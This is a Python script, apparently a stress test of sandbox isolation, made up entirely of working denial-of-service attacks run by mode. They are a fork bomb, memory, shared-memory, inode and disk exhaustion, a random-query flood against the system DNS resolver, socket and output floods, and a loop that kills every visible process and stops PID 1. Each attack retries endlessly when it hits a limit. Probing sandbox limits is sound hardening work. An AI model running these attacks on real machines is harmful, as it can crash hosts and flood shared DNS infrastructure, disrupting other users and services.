"""What a sandbox's root can do to its machine: python3 attack.py MODE."""
import ctypes
import mmap
import os
import random
import signal
import socket
import sys
import threading
import time


def endlessly(work):
    """Goes on where a limit is met: that is what an attacker does."""
    while True:
        try:
            work()
        except Exception:
            time.sleep(0.001)


def processes():
    def work():
        if os.fork() == 0:
            endlessly(lambda: os.fork())
    endlessly(work)


def memory():
    held = []

    def work():
        m = mmap.mmap(-1, 64 << 20)
        for page in range(0, 64 << 20, 4096):
            m[page] = 1
        held.append(m)
    endlessly(work)


def shm():
    libc = ctypes.CDLL(None)
    fds = []

    def work():
        path = "/dev/shm/%d" % random.getrandbits(64)
        fds.append(os.open(path, os.O_CREAT | os.O_WRONLY))
        fds.append(libc.memfd_create(b"x", 0))
        for fd in fds[-2:]:
            os.write(fd, b"x" * (16 << 20))
    endlessly(work)


def inodes():
    n = 0

    def work():
        nonlocal n
        n += 1
        folder = "/root/many/%d" % (n // 1000)
        os.makedirs(folder, exist_ok=True)
        with open("%s/%d" % (folder, n), "w") as f:
            f.write("x")
    endlessly(work)


def files():
    held = []
    block = os.urandom(1 << 20)

    def work():
        f = os.open("/root/file%d" % len(held), os.O_CREAT | os.O_WRONLY)
        held.append(f)
        for _ in range(256):
            os.write(f, block)
        os.fsync(f)
    endlessly(work)


def resolver():
    with open("/etc/resolv.conf") as f:
        for line in f:
            if line.startswith("nameserver"):
                return line.split()[1]
    return "127.0.0.1"


def dns():
    address = (resolver(), 53)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def work():
        name = b"".join(bytes([len(p)]) + p for p in (b"%x" % random.getrandbits(64), b"example", b"invalid"))
        s.sendto(os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x00\x01\x00\x01", address)
    endlessly(work)


def connections():
    held = []
    target = (resolver(), 53)

    def work():
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(target)
        held.append(s)
        if len(held) > 60000:
            held.pop(0).close()
    endlessly(work)


def output():
    line = b"x" * 65536
    endlessly(lambda: os.write(1, line))


def signals():
    me = os.getpid()

    def work():
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != me:
                try:
                    os.kill(int(name), signal.SIGSTOP if name == "1" else signal.SIGKILL)
                except OSError:
                    pass
    endlessly(work)


MODES = {f.__name__: f for f in (processes, memory, shm, inodes, files, dns, connections, output, signals)}

if __name__ == "__main__":
    mode = sys.argv[1]
    if mode != "all":
        MODES[mode]()
    for name, attack in MODES.items():
        if name != "signals" and os.fork() == 0:
            attack()
    time.sleep(20)
    signals()
